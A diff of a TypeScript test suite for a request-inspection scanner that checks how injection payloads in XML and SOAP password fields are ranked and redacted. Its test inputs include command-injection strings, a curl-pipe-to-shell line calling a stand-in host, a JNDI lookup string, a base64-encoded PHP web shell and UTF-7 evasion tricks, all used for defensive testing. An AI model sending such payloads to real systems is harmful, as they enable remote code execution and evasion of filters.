@@ -121,23 +121,6 @@ describe('password fields', () => {
     assert.equal(top(post('/upload', 'multipart/form-data; boundary=b0', part)), RANK.critical);
   });
 
-  test('a SOAP login is judged and recorded like a form login, its password blanked in the whole document', () => {
-    const p = GENERATED[5]!.replace('>', '&gt;');
-    const soap = (password: string, attr = false): InspectionInput =>
-      post(
-        '/soap',
-        'text/xml',
-        attr
-          ? `<Envelope><Body><Login user="jane" password="${password}"/></Body></Envelope>`
-          : `<Envelope><Body><Login><User>jane</User><Password>${password}</Password></Login></Body></Envelope>`,
-      );
-    for (const r of [soap(p), soap(p, true)]) {
-      const found = inspector.inspect(r);
-      assert.ok(found.every((f) => RANK[f.severity]! <= RANK.low!), JSON.stringify(found));
-      assert.ok(!found.some((f) => f.fragment?.includes('HPcF') || f.explanation.includes('HPcF')), JSON.stringify(found));
-    }
-  });
-
   test('a password field cannot be used to blank an attack elsewhere in a SOAP document', () => {
     // A fourth review: blanking the password's text in the whole document deleted `SYSTEM` from a DOCTYPE.
     for (const xml of [
@@ -168,69 +151,59 @@ describe('password fields', () => {
       assert.ok(top(json({ password })) >= RANK.high!, password);
   });
 
-  test('a SOAP login of real size: the password is judged alone, and no part of it is recorded', () => {
-    // A sixth review: the whole document (over 200 characters) was judged as the password, and a match running
-    // from the password into the closing tag (`;nc<`) was neither lowered nor redacted.
-    for (const password of ['Vq7P;nc', '$(HPcF$a&gt;jjhm1B)', 'a|id', 'k&lt;?=']) {
-      const xml =
-        '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" ' +
-        'xmlns:auth="urn:example:auth"><soap:Header/><soap:Body><auth:Login><auth:Username>jane.doe@example.com' +
-        `</auth:Username><auth:Password>${password}</auth:Password><auth:Remember>true</auth:Remember></auth:Login>` +
-        '</soap:Body></soap:Envelope>';
-      const found = inspector.inspect(post('/soap', 'text/xml; charset=utf-8', xml));
-      assert.ok(found.every((f) => RANK[f.severity]! <= RANK.low!), `${password}: ${JSON.stringify(found)}`);
-      const core = password.replace(/&gt;|&lt;/g, '').slice(1, 5);
-      assert.ok(!found.some((f) => f.fragment?.includes(core) === true || f.explanation.includes(core)), JSON.stringify(found));
+  test('an XML password is judged in full, never recorded: no reading of where it stands survived four reviews', () => {
+    // Rounds 6-10 of review each made the scanner, a parser and an application disagree on which text is the
+    // password (a processing instruction, Unicode names, a nested record, an empty sibling): lowering went.
+    const soap = (password: string): string =>
+      '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" ' +
+      'xmlns:auth="urn:example:auth"><soap:Header/><soap:Body><auth:Login><auth:Username>jane.doe@example.com' +
+      `</auth:Username><auth:Password>${password}</auth:Password></auth:Login></soap:Body></soap:Envelope>`;
+    const leaks = (found: readonly { fragment?: string; explanation: string }[], core: string): boolean =>
+      found.some((f) => f.fragment?.includes(core) === true || f.explanation.includes(core));
+    for (const [xml, core] of [
+      [soap('Vq7P;nc'), 'q7P'],
+      [soap('$(HPcF$a&gt;jjhm1B)'), 'HPcF'],
+      ['<login username="bob" password="$(HPcF$a>jjhm1B)"/>', 'HPcF'],
+      ['<login größe="1" password="$(HPcF$a>jjhm1B)"/>', 'HPcF'],
+      ['<!DOCTYPE l><login><password>$(HPcF$ajjhm1B)</password></login>', 'HPcF'],
+      [`<Envelope><Body><Up><password>$(HPcF$ajjhm1B)</password><file>${'QUJD'.repeat(40_000)}</file></Up></Body></Envelope>`, 'HPcF'],
+    ] as const) {
+      const found = inspector.inspect(post('/soap', 'text/xml', xml));
+      assert.ok(!leaks(found, core), `${xml.slice(0, 60)}: ${JSON.stringify(found)}`);
     }
+    // Past the values read, a password may be anywhere: the whole document is not recorded either (a tenth review).
+    const many = `<r>${'<v>1</v>'.repeat(1100)}<password>$(HPcF$ajjhm1B)</password></r>`;
+    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', many)), 'HPcF'));
+    // A data: URL in an XML password is not decoded into a copy that could be recorded.
+    const data = '<login><user>bob</user><password>data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==</password></login>';
+    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', data)), '<?php'));
   });
 
-  test('XML that a parser reads otherwise than the scanner judges nothing as a password', () => {
-    // A seventh review: a processing instruction hid a `<password>` from a parser but not from the old regex
-    // tokenizer; 64 levels of nesting made it pop the wrong element; a `>` in an attribute cut a tag short.
+  test('XML attacks around or inside a password-named element keep their severity (reviews 7-10)', () => {
     const deep = '<w>'.repeat(62) + '<password><host><z></z>127.0.0.1;id</host></password>' + '</w>'.repeat(62);
-    for (const xml of ['<r><host><?pi x><password>?>127.0.0.1;id</host></r>', deep, '<r><password>1<2</password><host>127.0.0.1;id</host></r>'])
-      assert.equal(top(post('/soap', 'text/xml', xml)), RANK.critical, xml.slice(0, 60));
-    const attr = inspector.inspect(post('/soap', 'text/xml', '<login username="bob" password="$(HPcF$a>jjhm1B)"/>'));
-    assert.ok(attr.every((f) => RANK[f.severity]! <= RANK.low!), JSON.stringify(attr));
-    assert.ok(!attr.some((f) => f.fragment?.includes('HPcF') === true || f.explanation.includes('HPcF')), JSON.stringify(attr));
-  });
-
-  test('an eighth review: XML a parser reads like the scanner lowers and redacts; XML it may not, never leaks', () => {
-    const quiet = (xml: string): void => {
-      // (The cut SOAP body also meets the body-size limit: an inspection finding, not about the password.)
-      const found = inspector.inspect(post('/soap', 'text/xml', xml));
-      const judged = found.filter((f) => f.category !== 'inspection');
-      assert.ok(judged.every((f) => RANK[f.severity]! <= RANK.low!), `${xml.slice(0, 50)}: ${JSON.stringify(judged)}`);
-      assert.ok(!found.some((f) => f.fragment?.includes('HPcF') === true || f.explanation.includes('HPcF')));
-    };
-    // Non-ASCII names, a password attribute after one, a SOAP body cut at the inspected size.
-    quiet('<s:Envelope xmlns:s="x"><s:Body><login><名前>ボブ</名前><password>$(HPcF$ajjhm1B)</password></login></s:Body></s:Envelope>');
-    quiet('<login größe="1" password="$(HPcF$a>jjhm1B)"/>');
-    quiet(`<Envelope><Body><Up><password>$(HPcF$ajjhm1B)</password><file>${'QUJD'.repeat(40_000)}</file></Up></Body></Envelope>`);
-    // Decoy tags a Unicode attribute name used to unbalance: the host is no password.
-    assert.equal(top(post('/soap', 'text/xml', '<r><host><password ü=">"/>127.0.0.1;id<password ü="/>"></password></host></r>')), RANK.critical);
-    // A DOCTYPE: nothing is judged as a password, and the password is still never recorded.
-    const doctype = inspector.inspect(post('/soap', 'text/xml', '<!DOCTYPE l><login><password>$(HPcF$ajjhm1B)</password></login>'));
-    assert.ok(doctype.some((f) => f.severity === 'critical'));
-    assert.ok(!doctype.some((f) => f.fragment?.includes('HPcF') === true || f.explanation.includes('HPcF')), JSON.stringify(doctype));
-  });
-
-  test('a ninth review: a password nested in a field, or outside a SOAP record, is judged in full and never recorded', () => {
     for (const xml of [
+      '<r><host><?pi x><password>?>127.0.0.1;id</host></r>',
+      deep,
+      '<r><password>1<2</password><host>127.0.0.1;id</host></r>',
+      '<r><host><password ü=">"/>127.0.0.1;id<password ü="/>"></password></host></r>',
       '<r><host><password>127.0.0.1;id</password></host></r>',
-      '<r><host>127.0.0.1<password>;id</password></host></r>',
-      '<s:Envelope xmlns:s="x"><s:Body><r><cmd><pwd>$(curl -s http://evil.example/x|sh)</pwd></cmd></r></s:Body></s:Envelope>',
-    ]) {
-      const found = inspector.inspect(post('/soap', 'text/xml', xml));
-      assert.ok(found.some((f) => f.severity === 'critical'), `${xml}: ${JSON.stringify(found)}`);
-      assert.ok(found.filter((f) => f.category === 'cmdi').every((f) => f.fragment === '‹a password field: not recorded›'), JSON.stringify(found));
-    }
-    // Text split by a comment or CDATA is one value, as parsers join it.
+      '<s:Envelope xmlns:s="x"><s:Body><exec><command><password>;id</password><z/></command></exec></s:Body></s:Envelope>',
+      '<s:Envelope xmlns:s="x"><s:Body><Login><user>a</user><password>pw</password></Login><Login>x<password>;i<!---->d</password></Login></s:Body></s:Envelope>',
+    ])
+      assert.equal(top(post('/soap', 'text/xml', xml)), RANK.critical, xml.slice(0, 70));
+    // Text split by a comment or CDATA is one value, as parsers join it; numeric references with any zeros decode.
     assert.equal(top(post('/x', 'application/xml', '<r><host>127.0.0.1;<![CDATA[id]]></host></r>')), RANK.critical);
     assert.equal(top(post('/x', 'application/xml', '<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>')), RANK.critical);
-    // An encoding this reading cannot follow hides the whole document.
-    const utf7 = inspector.inspect(post('/x', 'application/xml', '<?xml version="1.0" encoding="UTF-7"?><r><host>127.0.0.1+ADs-id</host></r>'));
-    assert.ok(utf7.some((f) => f.ruleId === 'protocol.xml-encoding' && f.severity === 'critical'), JSON.stringify(utf7));
+    assert.equal(top(post('/x', 'application/xml', '<r><host>;&#00000000000105;d</host></r>')), RANK.critical);
+    // An encoding this reading cannot follow hides the whole document, padded or not, whatever the Content-Type.
+    for (const [type, xml] of [
+      ['application/xml', '<?xml version="1.0" encoding="UTF-7"?><r><host>127.0.0.1+ADs-id</host></r>'],
+      ['application/xml', `<?xml version="1.0"${' '.repeat(300)}encoding${' '.repeat(20)}="UTF-7"?><r>+ADsAaQBk-</r>`],
+      ['text/plain', '<?xml version="1.0" encoding="utf-7"?><r>+ADsAaQBk-</r>'],
+    ]) {
+      const found = inspector.inspect(post('/x', type!, xml!));
+      assert.ok(found.some((f) => f.ruleId === 'protocol.xml-encoding' && f.severity === 'critical'), `${type} ${JSON.stringify(found)}`);
+    }
   });
 
   test('field names past 128 characters are judged but not kept (1,024 body-sized keys held 160 MB)', () => {
